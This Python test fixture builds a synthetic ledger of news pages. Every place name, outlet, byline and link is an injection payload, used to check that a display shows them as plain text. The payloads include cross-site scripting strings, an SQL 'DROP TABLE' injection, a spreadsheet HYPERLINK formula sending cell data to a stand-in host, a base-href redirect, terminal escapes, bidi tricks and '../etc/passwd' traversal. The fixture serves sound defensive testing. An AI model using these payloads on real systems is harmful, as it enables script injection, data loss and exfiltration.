"""A ledger of pages whose every word is an attack on the page that shows it: what a desk must show as plain text."""

from __future__ import annotations

from dataclasses import replace
from datetime import date, timedelta
from pathlib import Path
from random import Random

from attested.model import Page, Report
from attested.values import Place
from ledger_file import LedgerFile, Told
from ledgers import Made, made
from pile import City, Happening
from press import Press, copied
from printed import Sentence, derivation

# What is tried: script, markup that ends what it stands in, links that run, templates, SQL, formulas, escapes of the
# terminal, text turned round or hidden (Unicode's bidi controls, zero widths), paths.
PHRASES = (
    "<script>document.title='owned'</script>",
    '"><img src=x onerror="document.title=\'owned\'">',
    "</mark></title></textarea></svg><svg onload=alert(1)>",
    "javascript:alert(document.domain)",
    "{{7*7}}${7*7}<%= 7*7 %>",
    "'; DROP TABLE judgement; --",
    '=HYPERLINK("http://192.0.2.7/?"&A1)',
    "\x1b[2J\x1b]0;owned\x07",
    "\u202egnp.exe\u202c \u2066turned\u2069 \u200bhidden\ufeff",
    "../../../../etc/passwd",
    "<!--<base href=//192.0.2.7/><meta http-equiv=refresh content=0;url=//192.0.2.7/>",
    "&lt;b&gt;&amp;amp; &#x3c;script&#x3e;",
)
LINKS = ("javascript:alert(1)", "data:text/html,<script>alert(1)</script>", 'http://192.0.2.7/"onmouseover="alert(1)',
         "vbscript:msgbox(1)", "//192.0.2.7/", "file:///etc/passwd")  # fmt: skip
LONG_LINE = 1_000_000  # characters without a space in one page


def hostile_ledger(path: Path) -> Made:
    """A new ledger of a few such stories, each with a copy; one page holds a line of a million characters.

    Raises FileExistsError if there is a file.
    """
    file, press = LedgerFile(path), _HostilePress()
    for number, phrase in enumerate(PHRASES):
        file.add_story(_story(press, _happening(number, phrase)))
    return made(path, file, press)


class _HostilePress(Press):
    """A press whose newsrooms are named as they attack."""

    def __init__(self) -> None:
        super().__init__(Random("hostile"))
        self._outlets = list(PHRASES)


def _happening(number: int, phrase: str) -> Happening:
    place = Place(phrase, "IQ", 33.0 + number / 10, 44.0, phrase, 1 + number % 6)
    city = City(place, Place("Iraq", "IQ", 33.0, 44.0, kind="country"), (phrase, f"the {phrase} Front"), 1.0)
    toll = {"killed": number, "injured": 2 * number}
    return Happening(
        number, city, date(2024, 3, 4) + timedelta(days=number), number % 8, toll, phrase, phrase, phrase
    )


def _story(press: Press, happening: Happening) -> Told:
    """A report with all kinds of sentences, and a copy of it."""
    long = "A" * LONG_LINE if not happening.number else happening.name
    told = [press.incident(happening) for _ in range(4)]
    lines: list[Sentence] = [*told, press.statement(happening, 0), press.trend(happening)]
    lines.append(Sentence("", ("", ""), "", (("says", long, long, None), ("", ".", "", None))))
    day = happening.day + timedelta(days=1)
    first = press.report(happening, day, lines)
    second = press.report(happening, day, copied(first, "republished"))
    for printed in (first, second):
        link = LINKS[happening.number % len(LINKS)]
        printed.page = _linked(printed.page, link, happening.name)
        printed.report = _signed(printed.report, link, happening.name)
    kin = derivation(second, first, "republished")
    return Told((first, second), (kin,), dict.fromkeys((first.report.id, second.report.id), first.report.id))


def _linked(page: Page, link: str, phrase: str) -> Page:
    return replace(page, url=link, input=f"../{phrase}/{page.input}", stated={"title": phrase, "url": link})


def _signed(report: Report, link: str, phrase: str) -> Report:
    return replace(report, url=link, byline=phrase, headline=f"{phrase} {report.headline}", agency=phrase)
